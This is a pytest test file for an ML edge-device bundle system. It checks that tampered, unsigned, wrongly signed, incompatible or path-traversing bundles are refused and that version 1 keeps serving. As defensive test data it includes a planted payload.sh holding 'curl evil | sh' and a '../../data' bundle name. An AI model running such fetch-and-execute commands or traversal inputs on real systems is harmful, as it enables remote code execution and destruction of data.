"""Every way a published bundle can be tampered with is refused by `pull`, with its own reason, and the old bundle serves on."""

from __future__ import annotations

import json
import shutil
import sys
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "helpers"))
from edge_helpers import Exported, edge, keypair, predict_version, publish, shared_keys, shared_models

from mlflowkit.edge.device import Device
from mlflowkit.edge.errors import BundleRefused, EdgeError
from mlflowkit.edge.runner import Runner
from mlflowkit.edge.signing import load_public_key


@pytest.fixture(scope="session")
def models() -> tuple[list[Exported], pd.DataFrame]:
    return shared_models()


@pytest.fixture(scope="session")
def keys() -> tuple[Path, Path]:
    return shared_keys()


def flip_a_byte(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0xFF  # same size, different content
    path.write_bytes(bytes(data))


def edit_manifest(path: Path) -> None:
    doc = json.loads(path.read_bytes())
    doc["lineage"]["metrics"]["accuracy"] = 0.99  # a nicer number, after signing
    path.write_bytes(json.dumps(doc, sort_keys=True, separators=(",", ":")).encode())


CASES: dict[str, tuple[Callable[[Path], None], str, str]] = {
    "modified file": (lambda b: flip_a_byte(b / "model.onnx"), "modified-file", "model.onnx has sha256"),
    "extra file": (
        lambda b: (b / "payload.sh").write_text("curl evil | sh\n"),
        "extra-file",
        "payload.sh not listed in the manifest",
    ),
    "missing file": (
        lambda b: (b / "lineage.json").unlink(),
        "missing-file",
        "lineage.json listed in the manifest but not in the bundle",
    ),
    "missing signature": (lambda b: (b / "manifest.sig").unlink(), "unsigned", "manifest.sig is missing"),
    "changed manifest": (lambda b: edit_manifest(b / "manifest.json"), "bad-signature", "does not match manifest.json"),
}


@pytest.fixture
def device_on_v1(tmp_path: Path, models, keys) -> tuple[Path, Path, Path]:  # type: ignore[no-untyped-def]
    """A publication with v1, a device that pulled it, then v2 published (not pulled yet)."""
    exported, test = models
    private, public = keys
    location, device = tmp_path / "published", tmp_path / "device"
    publish(location, private, exported[0], 1, test)
    Device(device).pull(str(location / "churn"), channel="stable", public_key=load_public_key(str(public)))
    publish(location, private, exported[1], 2, test)
    return location, device, public


def assert_v1_serves(device: Path, models) -> None:  # type: ignore[no-untyped-def]
    _, test = models
    assert Device(device).status()["current"]["version"] == 1
    assert (
        Runner(Device(device).current()).predict(
            {"records": [json.loads(test.drop(columns=["churned"]).head(1).to_json(orient="records"))[0]]}
        )["version"]
        == 1
    )  # type: ignore[arg-type]
    assert not list((device / ".staging").glob("*")) if (device / ".staging").exists() else True
    assert sorted(p.name for p in (device / "bundles").iterdir()) == ["churn-v1"]


@pytest.mark.parametrize("case", list(CASES))
def test_a_tampered_bundle_is_refused_with_its_reason_and_v1_serves(case: str, device_on_v1, models) -> None:  # type: ignore[no-untyped-def]
    location, device, public = device_on_v1
    tamper, reason, text = CASES[case]
    tamper(location / "churn" / "2")
    # The device's own command line, in a fresh process.
    pulled = edge("pull", "--source", str(location / "churn"), "--dir", str(device), "--public-key", str(public))
    assert pulled.returncode == 1
    error = json.loads(pulled.stderr.strip().splitlines()[-1])
    assert error["reason"] == reason, error
    assert text in error["error"]
    assert_v1_serves(device, models)
    _, test = models
    assert predict_version(device, test) == 1
    events = [json.loads(line) for line in (device / "events.jsonl").read_text().splitlines()]
    assert events[-1]["event"] == "refused" and events[-1]["reason"] == reason


def test_a_bundle_signed_with_another_key_is_refused(device_on_v1, models, keys, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    location, device, public = device_on_v1
    exported, test = models
    other_private, _ = keypair(tmp_path, "other")
    shutil.rmtree(location / "churn" / "2")
    publish(location, other_private, exported[1], 2, test)  # a valid bundle, by a key the device does not trust
    with pytest.raises(BundleRefused) as info:
        Device(device).pull(str(location / "churn"), channel="stable", public_key=load_public_key(str(public)))
    assert info.value.reason == "wrong-key"
    assert "this device trusts key" in str(info.value)
    assert_v1_serves(device, models)
    assert predict_version(device, test) == 1


def test_an_untampered_v2_installs_and_rollback_returns_to_v1(device_on_v1, models) -> None:  # type: ignore[no-untyped-def]
    location, device, public = device_on_v1
    _, test = models
    pulled = edge("pull", "--source", str(location / "churn"), "--dir", str(device), "--public-key", str(public), check=True)
    assert json.loads(pulled.stdout) | {"seconds": 0} == {
        "status": "installed",
        "name": "churn",
        "version": 2,
        "previous": "churn-v1",
        "seconds": 0,
    }
    assert predict_version(device, test) == 2
    again = Device(device).pull(str(location / "churn"), channel="stable", public_key=load_public_key(str(public)))
    assert again["status"] == "up-to-date"
    back = edge("rollback", "--dir", str(device), "--public-key", str(public), check=True)
    assert json.loads(back.stdout)["version"] == 1
    assert predict_version(device, test) == 1
    assert Device(device).status()["previous"]["version"] == 2


def test_requirements_the_device_cannot_meet_are_refused_before_loading(device_on_v1, models, keys) -> None:  # type: ignore[no-untyped-def]
    location, device, public = device_on_v1
    exported, test = models
    private, _ = keys
    publish(location, private, exported[1], 3, test, min_ort_version="99.0")
    with pytest.raises(BundleRefused) as info:
        Device(device).pull(str(location / "churn"), channel="stable", public_key=load_public_key(str(public)))
    assert info.value.reason == "requirements"
    assert "needs ONNX Runtime >= 99.0; this device has" in str(info.value)
    assert_v1_serves(device, models)


def test_an_opset_newer_than_the_runtime_is_refused() -> None:
    from mlflowkit.edge.bundle import check_requirements

    manifest = {"requirements": {"min_ort_version": "1.0", "opset": {"": 99, "ai.onnx.ml": 1}}}
    with pytest.raises(BundleRefused, match=r"uses ai.onnx opset 99; ONNX Runtime .* implements up to \d+") as info:
        check_requirements(manifest)
    assert info.value.reason == "requirements"
    check_requirements(manifest | {"requirements": {"min_ort_version": "1.0", "opset": {"": 7}}})


def test_an_index_naming_a_folder_outside_the_device_is_refused(device_on_v1, models, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    location, device, public = device_on_v1
    victim = tmp_path / "data-v2"  # what `{name}-v{version}` would reach with name "../../data"
    victim.mkdir()
    (victim / "keep.txt").write_text("precious")
    index_path = location / "churn" / "index.json"
    index = json.loads(index_path.read_text())
    index["name"] = "../../data"
    index_path.write_text(json.dumps(index))
    with pytest.raises(EdgeError, match="not a valid bundle name"):
        Device(device).pull(str(location / "churn"), channel="stable", public_key=load_public_key(str(public)))
    assert (victim / "keep.txt").read_text() == "precious"
    assert_v1_serves(device, models)
